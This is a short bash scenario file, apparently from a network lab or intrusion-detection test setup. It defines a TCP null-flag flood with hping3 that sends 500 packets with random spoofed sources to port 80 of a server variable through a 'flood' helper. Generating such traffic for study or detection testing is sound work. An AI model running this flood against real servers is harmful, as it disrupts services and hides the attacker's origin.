# shellcheck shell=bash
# about: TCP without a flag (hping3)
# type: attack
# kind: null_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -p 80 --rand-source
}
